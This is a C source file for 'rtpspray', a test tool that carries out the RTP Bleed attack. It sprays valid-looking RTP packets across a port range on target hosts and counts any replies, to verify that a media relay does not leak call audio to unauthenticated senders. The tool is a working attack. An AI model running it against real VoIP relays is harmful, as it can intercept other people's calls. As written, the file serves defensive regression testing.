// SPDX-License-Identifier: GPL-2.0
/*
 * rtpspray - the RTP Bleed attacker, for tests: from one UDP socket, sends
 * valid-looking RTP (version 2, one SSRC, sequence numbers in order) to
 * every port of a range on each target address, round after round, and
 * counts whatever comes back to that socket. A relay that latches to
 * unauthenticated sources answers with the call's media; rtpedge must
 * answer nothing.
 *
 *   rtpspray --bind IP:PORT --target IP [--target IP...] --ports MIN-MAX
 *            [--rounds N] [--rate PPS] [--listen MS] [--json]
 *
 * Bounded: rounds x addresses x ports packets at --rate, then --listen ms
 * of listening. Exit 0 when nothing came back, 1 when something did, 2 on
 * usage errors.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_TARGETS 8

struct opts {
	struct sockaddr_in bind;
	struct in_addr target[MAX_TARGETS];
	int n_target;
	unsigned port_min, port_max, rounds, rate, listen_ms;
	int json;
};

static uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000ull + (uint64_t)ts.tv_nsec;
}

static int parse_ipport(const char *s, struct sockaddr_in *sa)
{
	char ip[64];
	const char *c = strrchr(s, ':');

	if (!c || (size_t)(c - s) >= sizeof(ip))
		return -1;
	memcpy(ip, s, (size_t)(c - s));
	ip[c - s] = '\0';
	memset(sa, 0, sizeof(*sa));
	sa->sin_family = AF_INET;
	sa->sin_port = htons((uint16_t)atoi(c + 1));
	return inet_pton(AF_INET, ip, &sa->sin_addr) == 1 ? 0 : -1;
}

static int parse_args(int argc, char **argv, struct opts *o)
{
	static const struct option lo[] = {
		{ "bind", required_argument, NULL, 'b' }, { "target", required_argument, NULL, 't' },
		{ "ports", required_argument, NULL, 'p' }, { "rounds", required_argument, NULL, 'r' },
		{ "rate", required_argument, NULL, 'R' },  { "listen", required_argument, NULL, 'l' },
		{ "json", no_argument, NULL, 'j' },        { 0 },
	};
	int c;

	*o = (struct opts){ .rounds = 3, .rate = 20000, .listen_ms = 1000 };
	while ((c = getopt_long(argc, argv, "", lo, NULL)) != -1) {
		switch (c) {
		case 'b':
			if (parse_ipport(optarg, &o->bind))
				return -1;
			break;
		case 't':
			if (o->n_target == MAX_TARGETS ||
			    inet_pton(AF_INET, optarg, &o->target[o->n_target++]) != 1)
				return -1;
			break;
		case 'p':
			if (sscanf(optarg, "%u-%u", &o->port_min, &o->port_max) != 2)
				return -1;
			break;
		case 'r': o->rounds = (unsigned)atoi(optarg); break;
		case 'R': o->rate = (unsigned)atoi(optarg); break;
		case 'l': o->listen_ms = (unsigned)atoi(optarg); break;
		case 'j': o->json = 1; break;
		default: return -1;
		}
	}
	if (!o->bind.sin_family || !o->n_target || !o->port_min || o->port_max < o->port_min ||
	    o->port_max > 65535 || !o->rate || o->rounds > 1000)
		return -1;
	return 0;
}

/* Reads whatever arrived; returns how many datagrams. */
static unsigned drain(int fd, int timeout_ms, struct sockaddr_in *last)
{
	unsigned n = 0;
	struct pollfd p = { .fd = fd, .events = POLLIN };
	unsigned char buf[2048];

	while (poll(&p, 1, timeout_ms) > 0) {
		socklen_t sl = sizeof(*last);

		if (recvfrom(fd, buf, sizeof(buf), MSG_DONTWAIT, (struct sockaddr *)last, &sl) >= 0)
			n++;
		timeout_ms = 0;
	}
	return n;
}

int main(int argc, char **argv)
{
	struct opts o;
	struct sockaddr_in last = { 0 };
	unsigned char pkt[172] = { 0x80, 0x00 };
	uint64_t sent = 0, t0, gap;
	unsigned received = 0;
	uint16_t seq = 1;
	int fd;

	if (parse_args(argc, argv, &o)) {
		fprintf(stderr, "usage: rtpspray --bind IP:PORT --target IP [--target IP] "
				"--ports MIN-MAX [--rounds N] [--rate PPS] [--listen MS] [--json]\n");
		return 2;
	}
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&o.bind, sizeof(o.bind)) < 0) {
		perror("rtpspray: bind");
		return 2;
	}
	memcpy(pkt + 8, "\xba\xd0\xba\xd0", 4); /* SSRC */
	gap = 1000000000ull / o.rate;
	t0 = now_ns();
	for (unsigned r = 0; r < o.rounds; r++)
		for (unsigned port = o.port_min; port <= o.port_max; port++)
			for (int t = 0; t < o.n_target; t++) {
				struct sockaddr_in to = { .sin_family = AF_INET,
							  .sin_port = htons((uint16_t)port),
							  .sin_addr = o.target[t] };

				pkt[2] = (unsigned char)(seq >> 8);
				pkt[3] = (unsigned char)seq;
				seq++;
				if (sendto(fd, pkt, sizeof(pkt), 0, (struct sockaddr *)&to, sizeof(to)) > 0)
					sent++;
				received += drain(fd, 0, &last);
				while (now_ns() < t0 + sent * gap)
					;
			}
	received += drain(fd, (int)o.listen_ms, &last);
	if (o.json)
		printf("{\"sent\":%llu,\"received\":%u,\"last_source\":\"%s:%u\"}\n",
		       (unsigned long long)sent, received, inet_ntoa(last.sin_addr),
		       ntohs(last.sin_port));
	else
		printf("rtpspray: sent=%llu received=%u\n", (unsigned long long)sent, received);
	close(fd);
	return received ? 1 : 0;
}
